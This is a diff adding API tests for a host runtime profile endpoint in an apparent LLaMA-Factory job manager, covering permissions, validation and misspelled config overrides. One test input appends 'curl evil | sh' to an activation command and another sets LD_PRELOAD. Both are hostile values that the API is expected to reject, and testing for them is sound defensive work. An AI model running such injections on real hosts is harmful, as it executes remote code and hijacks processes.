@@ -16,6 +16,7 @@ import * as presetExport from "@/app/api/v1/presets/[id]/export/route";
 import * as presetImport from "@/app/api/v1/presets/import/route";
 import * as hosts from "@/app/api/v1/hosts/route";
 import * as gpus from "@/app/api/v1/hosts/[id]/gpus/route";
+import * as hostProfile from "@/app/api/v1/hosts/[id]/profile/route";
 import * as openapi from "@/app/api/v1/openapi.json/route";
 
 let fx: TApiFixture;
@@ -179,4 +180,32 @@ test("openapi.json is served to signed-in callers and lists every route", async 
   assert.equal(r.status, 200);
   assert.equal(r.json.openapi, "3.1.0");
   assert.ok(r.json.paths["/runs/{id}/kill"].post);
+});
+
+test("host runtime profile over the API: anyone reads it, only an admin saves, a bad profile is a 400 naming the field", async () => {
+  const url = `/api/v1/hosts/${fx.hostName}/profile`;
+  const got = await call(hostProfile.GET, { url, auth: fx.users.VIEWER.token, params: { id: fx.hostName } });
+  assert.equal(got.status, 200, got.text);
+  assert.equal(got.json.profile.version, 1);
+  assert.equal(got.json.profile.activation, "source ~/LLaMA-Factory/.venv/bin/activate");
+  assert.equal(got.json.runtime.lfVersion, "0.9.6.dev0");
+  const body = { activation: "source ~/venv/bin/activate; curl evil | sh", lfDir: "~/LLaMA-Factory", runsDir: "~/r" };
+  const op = await call(hostProfile.PUT, { url, method: "PUT", auth: fx.users.OPERATOR.token, params: { id: fx.hostName }, body });
+  assert.equal(op.status, 403);
+  const bad = await call(hostProfile.PUT, { url, method: "PUT", auth: fx.users.ADMIN.token, params: { id: fx.hostName }, body });
+  assert.equal(bad.status, 400, bad.text);
+  assert.equal(bad.json.error.field, "activation");
+  assert.match(bad.json.error.message, /not allow|not an activation command/);
+  const reserved = await call(hostProfile.PUT, { url, method: "PUT", auth: fx.users.ADMIN.token, params: { id: fx.hostName }, body: { ...body, activation: "", envVars: { LD_PRELOAD: "/x.so" } } });
+  assert.equal(reserved.status, 400);
+  assert.equal(reserved.json.error.field, "envVars.LD_PRELOAD");
+  assert.equal(await prisma.hostProfile.count({ where: { hostId: fx.hostId } }), 1, "nothing saved");
+});
+
+test("a launch LF would refuse is a 400 with every field named, even when the host cannot be reached for the rest of the preflight", async () => {
+  const res = await call(runs.POST, { url: "/api/v1/runs", method: "POST", auth: fx.users.OPERATOR.token,
+    body: { preset: fx.presetName, host: fx.hostName, gpus: [0], overrides: ["learnig_rate=1.0e-4", "num_train_epoch=2"] } });
+  assert.equal(res.status, 400, res.text);
+  assert.deepEqual(res.json.error.fields.map((f: { field: string }) => f.field), ["config.learnig_rate", "config.num_train_epoch"]);
+  assert.match(res.json.error.fields[1].message, /did you mean `num_train_epochs`\?/);
 });
